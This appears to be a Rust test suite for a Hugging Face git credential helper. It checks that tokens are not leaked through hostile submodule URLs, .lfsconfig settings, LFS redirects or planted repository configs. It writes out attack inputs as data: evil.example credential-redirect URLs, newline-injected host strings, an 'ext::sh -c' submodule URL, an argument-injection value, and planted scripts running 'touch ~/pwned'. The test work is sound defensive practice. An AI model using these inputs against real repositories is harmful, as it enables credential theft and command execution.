//! Repositories that somebody else has filled: submodules, git-lfs's settings, answers of LFS
//! servers, and a configuration that came with an archive.

use crate::hostile::hosts::token_for_everything;
use crate::support::attacks::{Attacks, all_kept};
use crate::support::hub::{Hub, Response, TokenSeen};
use crate::support::machine::{Machine, with_each_git};
use crate::support::programs::write_program;
use crate::support::tools::need;
use crate::support::user::noise;
use std::fs;

const X: &str = "https://huggingface.co/acme/x";
const HUB: &str = "huggingface.co";

/// Puts a submodule of this URL into acme/x, as somebody with the right to push can.
fn push_submodule(machine: &Machine, url: &str) {
    let head = machine.git(["rev-parse", "HEAD"]).dir("x").ok().stdout;
    let entry = format!("160000,{},sub", head.trim());
    let add = ["update-index", "--add", "--cacheinfo", &entry];
    machine.git(add).dir("x").ok();
    machine.write("x/.gitmodules", "[submodule \"sub\"]\n\tpath = sub\n");
    let set = ["config", "--file", ".gitmodules", "submodule.sub.url", url];
    machine.git(set).dir("x").ok();
    machine.git(["add", ".gitmodules"]).dir("x").ok();
    let commit = ["commit", "--quiet", "--allow-empty", "-m", "sub"];
    machine.git(commit).dir("x").ok();
    machine.git(["push"]).dir("x").ok();
}

#[test]
fn a_submodule_takes_no_token_elsewhere() {
    let mut attacks = Attacks::new();
    with_each_git(token_for_everything, |hub, machine| {
        machine.git(["clone", X]).ok();
        for (url, asked) in [
            ("https://huggingface.co.evil.example/acme/x", true),
            ("https://evil.example/acme/x", true),
            ("https://huggingface.co@evil.example/acme/x", true),
            ("https://work@evil.example/acme/x", true),
            ("https://huggingface.co:443@evil.example/acme/x", true),
            ("http://huggingface.co/acme/x", true),
            ("https://cdn-lfs.huggingface.co/acme/x", true),
            ("https://huggingface.co:8443/acme/x", true),
            ("https://evil.example%0ahost=huggingface.co/acme/x", false),
            ("https://evil.example/acme/x%0ahost=huggingface.co", false),
            ("https://x%0ahost=huggingface.co@evil.example/acme/x", false),
            ("https://evil.example%0dhost=huggingface.co/acme/x", false),
            ("https://evil.example/%1b%5b2J", false),
            ("ext::sh -c touch% pwned", false),
            ("-u./pwned", false),
        ] {
            push_submodule(machine, url);
            hub.clear_log();
            let clone = ["clone", "--recurse-submodules", X, "copy"];
            let said = machine.git(clone).run();
            let foreign =
                |entry: &crate::support::hub::Logged| entry.host != HUB || entry.scheme == "http";
            assert!(
                !asked || hub.log().iter().any(foreign),
                "{url} was not asked for: {said}"
            );
            attacks.tried_on(hub, &[], url);
            let _ = fs::remove_dir_all(machine.home().join("copy"));
        }
        assert!(!machine.home().join("pwned").exists());
    });
    attacks.end();
}

/// Clones acme/x, and lets git-lfs take care of large files there.
fn clone_with_lfs(machine: &Machine) {
    machine.git(["lfs", "install", "--skip-repo"]).ok();
    machine.git(["clone", X]).ok();
    machine.git(["lfs", "track", "*.bin"]).dir("x").ok();
    machine.commit_all("x");
    machine.git(["push"]).dir("x").ok();
}

/// Commits a large file and these settings of git-lfs into acme/x.
fn commit_with_lfsconfig(machine: &Machine, settings: &[(&str, &str)], round: usize) {
    fs::remove_file(machine.home().join("x/.lfsconfig")).unwrap_or_default();
    for (key, value) in settings {
        let set = ["config", "--file", ".lfsconfig", key, value];
        machine.git(set).dir("x").ok();
    }
    machine.write(
        "x/weights.bin",
        [noise(1000), round.to_le_bytes().to_vec()].concat(),
    );
    machine.commit_all("x");
}

#[test]
fn settings_of_git_lfs_in_a_repo_take_no_token_elsewhere() {
    if !need("git-lfs") {
        return;
    }
    let mut attacks = Attacks::new();
    with_each_git(token_for_everything, |hub, machine| {
        clone_with_lfs(machine);
        for (round, settings) in [
            [("lfs.url", "https://evil.example/acme/x.git/info/lfs")].as_slice(),
            &[(
                "lfs.url",
                "https://huggingface.co.evil.example/acme/x.git/info/lfs",
            )],
            &[(
                "lfs.url",
                "https://huggingface.co@evil.example/acme/x.git/info/lfs",
            )],
            &[("lfs.url", "https://work@evil.example/acme/x.git/info/lfs")],
            &[("lfs.url", "https://huggingface.co:8443/acme/x.git/info/lfs")],
            &[("lfs.url", "http://huggingface.co/acme/x.git/info/lfs")],
            &[("lfs.pushurl", "https://evil.example/acme/x.git/info/lfs")],
            &[(
                "remote.origin.lfsurl",
                "https://evil.example/acme/x.git/info/lfs",
            )],
            &[
                ("lfs.url", "https://evil.example/acme/x.git/info/lfs"),
                (
                    "lfs.https://evil.example/acme/x.git/info/lfs.access",
                    "basic",
                ),
            ],
            // Settings that .lfsconfig may not have, in case an old git-lfs takes them.
            &[
                ("lfs.url", "https://evil.example/acme/x.git/info/lfs"),
                ("credential.helper", "hf"),
                ("credential.https://evil.example.helper", "hf"),
                (
                    "url.https://evil.example/.insteadOf",
                    "https://huggingface.co/",
                ),
                ("lfs.gitprotocol", "http"),
            ],
        ]
        .iter()
        .enumerate()
        {
            commit_with_lfsconfig(machine, settings, round);
            hub.clear_log();
            let push = ["-c", "lfs.transfer.maxRetries=1", "push"];
            let said = machine.git(push).dir("x").run();
            let lfs = hub
                .log()
                .iter()
                .any(|entry| entry.path.contains("/info/lfs"));
            // Or git would be asked for credentials before anything is sent.
            let wanted = said.stderr.contains("could not read ");
            assert!(
                lfs || wanted,
                "{settings:?}: no LFS server was asked: {said}"
            );
            attacks.tried_on(hub, &[], format!("{settings:?}"));
            machine
                .git(["reset", "--quiet", "--hard", "HEAD~1"])
                .dir("x")
                .ok();
        }
    });
    attacks.end();
}

/// An LFS server, the Hub itself or one that it leads to, says where objects lie.
#[test]
fn an_lfs_server_leads_no_token_elsewhere() {
    if !need("git-lfs") {
        return;
    }
    let mut attacks = Attacks::new();
    with_each_git(token_for_everything, |hub, machine| {
        clone_with_lfs(machine);
        for (round, (status, to)) in [
            (
                307,
                "https://evil.example/acme/x.git/info/lfs/objects/batch",
            ),
            (
                308,
                "https://huggingface.co.evil.example/acme/x.git/info/lfs/objects/batch",
            ),
            (
                307,
                "http://huggingface.co/acme/x.git/info/lfs/objects/batch",
            ),
            (
                307,
                "https://cdn-lfs.huggingface.co/acme/x.git/info/lfs/objects/batch",
            ),
            // No redirect: the answer names a host for the object.
            (200, "https://evil.example/objs/x"),
            (200, "https://huggingface.co.evil.example/objs/x"),
            (200, "https://huggingface.co@evil.example/objs/x"),
            (200, "http://huggingface.co/objs/x"),
            (200, "https://huggingface.co:8443/objs/x"),
        ]
        .into_iter()
        .enumerate()
        {
            hub.route(
                "POST",
                HUB,
                "/acme/x.git/info/lfs/objects/batch",
                move |request| {
                    if request.token == TokenSeen::None {
                        return Response::text(401, "who is there")
                            .header("WWW-Authenticate", "Basic realm=\"Hub\"");
                    }
                    if status != 200 {
                        return Response::redirect(status, to);
                    }
                    let mut object = request.json()["objects"][0].clone();
                    object["actions"] = serde_json::json!({ "upload": { "href": to } });
                    let answer = serde_json::json!({ "transfer": "basic", "objects": [object] });
                    Response::new(200, "application/vnd.git-lfs+json", answer.to_string())
                },
            );
            for host in [
                "evil.example",
                "huggingface.co.evil.example",
                "huggingface.co:8443",
            ] {
                hub.route("PUT", host, "/objs/x", |_| {
                    Response::text(401, "who is there")
                        .header("WWW-Authenticate", "Basic realm=\"Hub\"")
                        .header("LFS-Authenticate", "Basic realm=\"Hub\"")
                });
            }
            commit_with_lfsconfig(machine, &[], round);
            let push = ["-c", "lfs.transfer.maxRetries=1", "push"];
            let said = machine.git(push).dir("x").fails();
            let asked = hub.log().iter().any(|entry| entry.path.ends_with("/batch"));
            assert!(asked, "{to}: {said}");
            attacks.tried_on(hub, &[], format!("{status} {to}"));
            machine
                .git(["reset", "--quiet", "--hard", "HEAD~1"])
                .dir("x")
                .ok();
            machine.forgive();
        }
    });
    attacks.end();
}

/// A repository's own configuration, as it comes in an archive: it can have git ask elsewhere,
/// and there the helper does not answer.
#[test]
fn a_repos_own_configuration_turns_the_helper_to_no_other_host() {
    let mut attacks = Attacks::new();
    with_each_git(token_for_everything, |hub, machine| {
        machine.git(["clone", X]).ok();
        let plain = machine.read("x/.git/config");
        let kept = all_kept(machine);
        for hostile in [
            "[remote \"origin\"]\n\turl = https://evil.example/acme/x\n",
            "[remote \"origin\"]\n\tpushurl = https://evil.example/acme/x\n",
            "[url \"https://evil.example/\"]\n\tinsteadOf = https://huggingface.co/\n",
            "[url \"https://evil.example/\"]\n\tpushInsteadOf = https://huggingface.co/\n",
            "[url \"https://huggingface.co@evil.example/\"]\n\tinsteadOf = https://huggingface.co/\n",
            "[url \"http://huggingface.co/\"]\n\tinsteadOf = https://huggingface.co/\n",
            "[credential \"https://evil.example\"]\n\thelper = hf\n\
             [url \"https://evil.example/\"]\n\tinsteadOf = https://huggingface.co/\n",
            "[credential]\n\thelper = hf\n\tusername = work\n\
             [url \"https://evil.example/\"]\n\tinsteadOf = https://huggingface.co/\n",
            "[credential]\n\tprotectProtocol = false\n\
             [url \"https://evil.example%0dhost=huggingface.co/\"]\n\tinsteadOf = https://huggingface.co/\n",
            "[http]\n\tfollowRedirects = true\n\
             [url \"https://evil.example/\"]\n\tinsteadOf = https://huggingface.co/\n",
            "[lfs]\n\turl = https://evil.example/acme/x.git/info/lfs\n",
        ] {
            machine.write("x/.git/config", format!("{plain}{hostile}"));
            for command in [
                ["fetch"].as_slice(),
                &["push", "origin", "HEAD:refs/heads/new"],
            ] {
                machine.git(command).dir("x").run();
                attacks.tried_on(hub, &[], format!("{command:?} with {hostile:?}"));
            }
            machine.forgive();
        }
        // Its files are none of the helper's: no configuration, no state, no program.
        machine.write("x/.git/config", &plain);
        let spy = "[endpoints]\n\"https://evil.example\" = { env = true }\n\
                   [commands]\nwork = [\"sh\", \"-c\", \"touch ~/pwned\"]\n";
        for file in ["config.toml", ".config/git-credential-hf/config.toml"] {
            machine.write(format!("x/{file}"), spy);
        }
        for program in ["git", "git-credential-hf", "xdg-open"] {
            let path = machine.home().join("x").join(program);
            write_program(&path, "#!/bin/sh\ntouch ~/pwned\n");
        }
        for home in [".", "./", "x", "../x"] {
            let request = "protocol=https\nhost=evil.example\npath=acme/x\n";
            for request in [request, "protocol=https\nhost=huggingface.co\n"] {
                let get = machine
                    .helper(["get"])
                    .stdin(request)
                    .dir("x")
                    .may_print_secret();
                let get = get.env("GIT_CREDENTIAL_HF_HOME", home).run();
                attacks.tried(format!("home {home}"), !get.stdout.is_empty());
            }
        }
        for command in [["explain"].as_slice(), &["list"], &["fetch-nothing", "x"]] {
            machine.helper(command).dir("x").run();
            attacks.tried(
                format!("{command:?}"),
                machine.home().join("pwned").exists(),
            );
        }
        // Rejections come and go; nothing else may have changed.
        let tokens = |kept: &std::collections::BTreeMap<std::path::PathBuf, _>| {
            kept.keys().cloned().collect::<Vec<_>>()
        };
        assert_eq!(tokens(&all_kept(machine)), tokens(&kept));
    });
    attacks.end();
}

/// With no path from git the repo is read from the remotes: hostile ones choose no token for
/// another host, and stop nobody for long.
#[test]
fn remotes_that_a_stranger_wrote_choose_only_among_tokens_of_the_hub() {
    let hub = Hub::start();
    let machine = Machine::new(&hub);
    let token = hub.add_token("work", &[]);
    machine.login("work", &token, &["--for", "acme"]);
    machine.git(["init", "--quiet", "x"]).ok();
    let plain = machine.read("x/.git/config");
    let mut attacks = Attacks::new();
    for url in [
        "https://evil.example/acme/x",
        "https://huggingface.co.evil.example/acme/x",
        "https://huggingface.co@evil.example/acme/x",
        "http://huggingface.co/acme/x",
        "https://huggingface.co:8443/acme/x",
        "https://huggingface.co/acme/../evil/x",
        "https://huggingface.co/evil/x?/acme/x",
        "https://huggingface.co/evil/x#/acme/x",
        "ssh://huggingface.co/acme/x",
        "huggingface.co:acme/x",
        "acme/x",
        "file:///acme/x",
        "https://huggingface.co/acme%00/x",
        "https://huggingface.co/\u{1b}[2J/x",
    ] {
        let escaped = url.replace('\\', "\\\\");
        machine.write(
            "x/.git/config",
            format!("{plain}[remote \"origin\"]\n\turl = \"{escaped}\"\n"),
        );
        for host in [
            "huggingface.co",
            "evil.example",
            "huggingface.co.evil.example",
        ] {
            let request = format!("protocol=https\nhost={host}\n");
            let get = machine
                .helper(["get"])
                .stdin(request)
                .dir("x")
                .may_print_secret()
                .run();
            let clean = get.stderr.chars().all(|c| c == '\n' || !c.is_control());
            attacks.tried(
                format!("{url} for {host}"),
                get.stdout.contains("password=") || !clean,
            );
        }
    }
    attacks.end();
    // The Hub's own URL does choose it.
    let ours = format!("{plain}[remote \"origin\"]\n\turl = https://huggingface.co/acme/x\n");
    machine.write("x/.git/config", ours);
    let get = machine
        .helper(["get"])
        .stdin("protocol=https\nhost=huggingface.co\n");
    let get = get.dir("x").may_print_secret().ok();
    assert_eq!(get.value("password"), Some(token.as_str()));
}
